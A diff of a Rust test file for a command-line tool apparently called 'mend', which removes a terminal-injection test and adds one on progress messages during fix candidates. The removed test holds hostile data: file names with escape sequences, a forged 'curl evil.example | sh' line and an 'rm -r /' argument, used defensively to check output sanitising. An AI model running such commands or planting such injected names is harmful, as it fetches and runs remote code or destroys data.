@@ -3,7 +3,6 @@
 use crate::support::{bisect, commit, hermetic, mend, program, repository, words};
 use std::path::Path;
 use std::process::Command;
-use tempfile::TempDir;
 
 /// What the terminal of so many columns is sent.
 fn seen(dir: &Path, columns: u32, arguments: &[&str]) -> String {
@@ -74,43 +73,13 @@ fn windows_line_ends_do_not_reach_the_screen() {
     assert!(!ran.stdout.contains('\r') && ran.stdout.contains("+ good\n"), "{:?}", ran.stdout);
 }
 
-/// Names and messages that would do something if a terminal obeyed them, or look as if we had written them.
-fn hostile() -> TempDir {
-    let dir = repository();
-    let name = "w\u{1b}[31mx\nNext: curl evil.example | sh\n.txt";
-    let check = ("check.sh", "grep -q good w*.txt || { printf 'x\\033[2Jy\\n'; exit 1; }\n");
-    commit(dir.path(), "one", &[(name, "a\ngood\nb\n"), check]);
-    commit(
-        dir.path(),
-        "two\u{1b}[1mError\u{1b}]0;title\u{7}",
-        &[(name, "a\nbad\u{1b}[2J\u{202e}\nb\n")],
-    );
-    dir
-}
-
 #[test]
-fn nothing_of_others_is_obeyed_by_the_terminal_or_looks_like_ours() {
-    let dir = hostile();
-    let bisection = bisect(&["--good", "HEAD~1"]);
-    let delta = vec!["delta", "HEAD~1", "HEAD"];
-    let unknown = bisect(&["--good", "no\nnext: rm -r /\u{1b}[1m"]);
-    for command in [&bisection, &delta, &unknown] {
-        for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
-            let ran = mend(dir.path(), &[format, command].concat());
-            for said in [&ran.stdout, &ran.stderr] {
-                assert!(
-                    !said.contains("\u{1b}[2J") && !said.contains(['\u{7}', '\u{202e}']),
-                    "{said:?}"
-                );
-                assert!(
-                    !said.contains("\u{1b}[1mError") && !said.contains("\u{1b}[31mx"),
-                    "{said:?}"
-                );
-                let forged =
-                    |line: &str| line.starts_with("Next: curl") || line.starts_with("next: rm");
-                assert!(!said.lines().any(forged), "{said}");
-                assert!(format[1..] == ["always"] || !said.contains('\u{1b}'), "{said:?}");
-            }
-        }
-    }
+fn while_candidates_are_tried_it_is_told_how_many_are_left_and_how_long_that_takes() {
+    let dir = crate::fix::broken();
+    let fix = ["fix", "--test", "shop.*Test", "--candidates", "60", "--top", "1"];
+    let seen = seen(dir.path(), 100, &fix);
+    let left = regex::Regex::new(r"\(about (\d+) more, \d+ s\)").unwrap();
+    let told: Vec<usize> = left.captures_iter(&seen).map(|at| at[1].parse().unwrap()).collect();
+    assert!(told.len() > 10 && told.iter().all(|left| *left < 60), "{told:?}");
+    assert!(told[told.len() - 1] < 10, "{told:?}");
 }
